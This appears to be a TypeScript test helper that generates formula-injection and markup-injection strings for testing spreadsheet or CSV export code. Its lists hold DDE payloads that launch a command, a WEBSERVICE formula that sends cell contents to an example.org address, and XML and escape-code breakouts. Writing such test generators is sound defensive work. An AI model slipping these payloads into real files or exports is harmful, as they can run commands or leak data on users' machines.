import type { Chance } from './random-numbers';

/** Beginnings and whole texts that some program has taken for something other than text. */
const beginnings = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '\u0000=',
  '\u0001',
  "'=",
  '"=',
  '＝',
  '|',
  '%',
  '&',
  '\uFEFF=',
  '_x003D_',
  ';',
  '{=',
];
const middles = [
  '1+1',
  'HYPERLINK("http://example.org","klicka")',
  "cmd|'/C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  'WEBSERVICE("http://example.org/"&A1)',
  'SUM(A1:A9)',
  "'Blad 1'!A1",
  '"&A1&"',
  '")+1+("',
  '&A&P&F&D',
  '&"Arial,Fet"&20',
  '<f>1</f>',
  '</t></is></c>',
  ']]>',
  '&amp;&lt;',
  '_x000D__x0000_',
  '{0} {unit} ${1}',
  '%s',
  '\u0007\u001B[31m',
  'INDIREKT',
];
const endings = ['', '"', "'", '\\', '\t', '\u0000', '&', '!A1', ')', 'å', '\u{1F600}'];

/** A text that begins, goes on and ends as attacks do; texts of one drawing differ by their number. */
export function hostileText(chance: Chance, number: number): string {
  return `${chance.of(beginnings)}${chance.of(middles)}${number}${chance.of(endings)}`;
}
